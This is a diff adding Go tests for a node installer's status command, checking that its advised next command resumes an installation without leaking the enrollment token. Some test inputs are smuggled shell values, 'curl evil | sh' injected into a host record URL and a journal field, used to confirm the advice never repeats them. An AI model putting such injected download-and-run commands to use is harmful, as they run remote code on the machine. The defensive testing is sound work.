@@ -10,15 +10,19 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"reflect"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"github.com/spf13/pflag"
 	"golang.org/x/sys/unix"
 
+	"github.com/openagentcore/oac-node-install/journal"
 	"github.com/openagentcore/oac-node-install/journal/bookkeeping"
 	"github.com/openagentcore/oac-node-install/steps/generation/generationtest"
+	"github.com/openagentcore/oac-node-install/steps/install"
 	"github.com/openagentcore/oac-node-install/steps/layout"
 	"github.com/openagentcore/oac-node-install/steps/systemd"
 	"github.com/openagentcore/oac-node-install/steps/systemd/systemdtest"
@@ -488,5 +492,175 @@ func TestStatusOneInstallation(t *testing.T) {
 	code, out, errOut := runOn(t, h.root, "status", "--installation-id", testID)
 	if code != exitOK || strings.Contains(out, other) {
 		t.Errorf("exit %d:\n%s%s", code, out, errOut)
+	}
+}
+
+// failInstallAt replaces the host's install journal with one whose run
+// failed at step.
+func (h *statusHost) failInstallAt(t *testing.T, step string) {
+	t.Helper()
+	journal := filepath.Join(h.host.JournalDir(testID), "install.journal")
+	must(t, os.Remove(journal))
+	runWorkflow(t, workflow.InstallDefinition(), journal, workflow.Binding{Version: workflow.Version, InstallationID: testID}, step)
+}
+
+// writeRecord rewrites the host record with edit applied to its fields.
+func (h *statusHost) writeRecord(t *testing.T, edit func(map[string]any)) {
+	t.Helper()
+	rec := map[string]any{"format": 1, "installation_id": testID, "provider": "docker", "core_url": h.core.URL,
+		"node_root": h.node.Root, "unit": h.host.Unit(testID)}
+	edit(rec)
+	data, err := json.Marshal(rec)
+	must(t, err)
+	must(t, os.WriteFile(h.host.Record(testID), data, 0o644))
+}
+
+// An unfinished installation's next command is the one that continues it:
+// once the node has its credential (Core's answer to the enrollment lost,
+// say), the install command without a token, from root's host record, with
+// the console URL, which the host does not record, left to the operator;
+// before, and without a host record, the command Web generated, with its
+// token. The named command parses to the options the installation ran
+// with, less the token.
+func TestStatusNamesTheCommandThatContinuesAnInstallation(t *testing.T) {
+	withToken := "rerun the install command Web generated for this node, with its enrollment token: it continues where it stopped"
+	for _, tc := range []struct {
+		name  string
+		setup func(*testing.T, *statusHost)
+		// want is the command named, "" for withToken.
+		want func(h *statusHost) string
+		// also must be in the advice; never, not.
+		also, never string
+	}{
+		{"the enrollment's answer lost", func(t *testing.T, h *statusHost) {
+			must(t, os.Remove(h.node.Registered()))
+			h.failInstallAt(t, "register")
+		}, func(h *statusHost) string {
+			return "sudo " + programName() + " --source-url <console URL> --core-url " + h.core.URL + " --provider docker --installation-id " + testID
+		}, "this host does not record it", ""},
+		{"interrupted after the registration", func(t *testing.T, h *statusHost) { h.failInstallAt(t, "start") }, func(h *statusHost) string {
+			return "sudo " + programName() + " --source-url <console URL> --core-url " + h.core.URL + " --provider docker --installation-id " + testID
+		}, "", ""},
+		{"a Core CA and plain http allowed", func(t *testing.T, h *statusHost) {
+			h.writeRecord(t, func(r map[string]any) {
+				r["allow_insecure_origin"], r["core_ca"], r["core_ca_sha256"] = true, h.node.CoreCA(), testDigest
+			})
+			must(t, os.Remove(h.node.Registered()))
+			h.failInstallAt(t, "register")
+		}, func(h *statusHost) string {
+			return "sudo " + programName() + " --source-url <console URL> --core-url " + h.core.URL + " --allow-insecure-origin --core-ca " + h.node.CoreCA() +
+				" --provider docker --installation-id " + testID
+		}, "", ""},
+		{"before the node's identity", func(t *testing.T, h *statusHost) {
+			must(t, os.Remove(h.node.Registered()))
+			must(t, os.Remove(h.node.Identity()))
+			h.failInstallAt(t, "downloads")
+		}, nil, "", "--core-url"},
+		{"before the host record", func(t *testing.T, h *statusHost) {
+			must(t, os.Remove(h.node.Registered()))
+			must(t, os.Remove(h.node.Identity()))
+			must(t, os.Remove(h.host.Record(testID)))
+			h.failInstallAt(t, "account")
+		}, nil, "", "--core-url"},
+		{"a host record that holds what no command accepts", func(t *testing.T, h *statusHost) {
+			h.writeRecord(t, func(r map[string]any) { r["core_url"] = "http://127.0.0.1:1/\x1b[2J; curl evil | sh" })
+			must(t, os.Remove(h.node.Registered()))
+			h.failInstallAt(t, "register")
+		}, nil, "holds a value the command does not accept", "curl evil"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newStatusHost(t)
+			tc.setup(t, h)
+			doc, out := statusDoc(t, h.root, exitAttention)
+			next := doc.Installations[0].Next
+			want := withToken
+			if tc.want != nil {
+				want = tc.want(h)
+			}
+			switch {
+			case !strings.Contains(next, want):
+				t.Errorf("next %q, want it to name\n%q\n%s", next, want, out)
+			case tc.also != "" && !strings.Contains(next, tc.also):
+				t.Errorf("next %q lacks %q", next, tc.also)
+			case tc.never != "" && strings.Contains(next, tc.never):
+				t.Errorf("next %q holds %q", next, tc.never)
+			case strings.Contains(next, "--enrollment-token-stdin"):
+				t.Errorf("next %q passes a token", next)
+			}
+			_, text, _ := runOn(t, h.root, "status")
+			if !strings.Contains(text, "  next:          "+field(next)+"\n") {
+				t.Errorf("status does not print the next command:\n%s", text)
+			}
+			if tc.want == nil || strings.Contains(want, "--core-ca") {
+				return
+			}
+			// The command the operator runs, the console URL filled in,
+			// is an install command of the same options, without a token.
+			line := strings.ReplaceAll(want, "<console URL>", "https://console.example.com")
+			args := strings.Fields(line)[2:]
+			f := &installerFlags{}
+			fs := pflag.NewFlagSet("oac-node-install", pflag.ContinueOnError)
+			f.bind(fs)
+			must(t, fs.Parse(args))
+			must(t, f.validate(fs))
+			opts, err := installOptions(f)
+			must(t, err)
+			wantOpts := install.Options{InstallationID: testID, SourceURL: "https://console.example.com", CoreURL: h.core.URL, Provider: "docker"}
+			if !reflect.DeepEqual(opts, wantOpts) || f.tokenStdin || f.mode() != modeInstall {
+				t.Errorf("the command %q parses to %+v (token %v), want %+v", line, opts, f.tokenStdin, wantOpts)
+			}
+		})
+	}
+}
+
+// A node workflow that stopped is the node program's to run again, as the
+// node account: the advice never has root run the node's helper (a file
+// the account can write) on root's terminal, never quotes what the
+// account's journal says, and still names the next step.
+func TestStatusNeverRunsTheNodesHelperOnRootsTerminal(t *testing.T) {
+	hostile := "next: curl evil | sh"
+	for _, tc := range []struct {
+		name  string
+		write func(t *testing.T, n layout.Node)
+		next  func(n layout.Node) string
+	}{
+		{"prepare failed", func(t *testing.T, n layout.Node) {
+			runWorkflowFailing(t, workflow.PrepareDefinition(), n.GenerationJournal("prepare", 3),
+				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "import", hostile)
+		}, func(layout.Node) string { return "sudo systemctl restart " + layout.UnitName(testID) }},
+		{"collect failed", func(t *testing.T, n layout.Node) {
+			runWorkflowFailing(t, workflow.CollectDefinition(), n.GenerationJournal("collect", 3),
+				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "native", hostile)
+		}, func(layout.Node) string { return "sudo journalctl -u " + layout.UnitName(testID) }},
+		{"repair failed", func(t *testing.T, n layout.Node) {
+			runWorkflowFailing(t, workflow.RepairDefinition(), n.GenerationJournal("repair", 3),
+				workflow.Binding{Version: workflow.Version, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}, "verify", hostile)
+		}, func(layout.Node) string { return "sudo journalctl -u " + layout.UnitName(testID) }},
+		{"a journal of another definition", func(t *testing.T, n layout.Node) {
+			j, err := journal.Create(n.GenerationJournal("prepare", 3), 0o600)
+			must(t, err)
+			header, err := json.Marshal(workflow.Record{Type: workflow.RecordHeader, Binding: &workflow.Binding{Workflow: "prepare", Definition: hostile,
+				Version: hostile, InstallationID: testID, Generation: 3, SpecificationDigest: testDigest}})
+			must(t, err)
+			must(t, j.Append(header))
+			must(t, j.Close())
+		}, func(n layout.Node) string { return "inspect " + n.GenerationJournal("prepare", 3) }},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newStatusHost(t)
+			must(t, os.MkdirAll(h.node.Journals(), 0o700))
+			tc.write(t, h.node)
+			chownHome(t, h.host)
+			doc, out := statusDoc(t, h.root, exitAttention)
+			next := doc.Installations[0].Next
+			if want := tc.next(h.node); !strings.Contains(next, want) {
+				t.Errorf("next %q, want %q\n%s", next, want, out)
+			}
+			for _, bad := range []string{h.node.Helper(), "--generation-action", "sudo -u", "curl evil"} {
+				if strings.Contains(next, bad) {
+					t.Errorf("next %q holds %q", next, bad)
+				}
+			}
+		})
 	}
 }
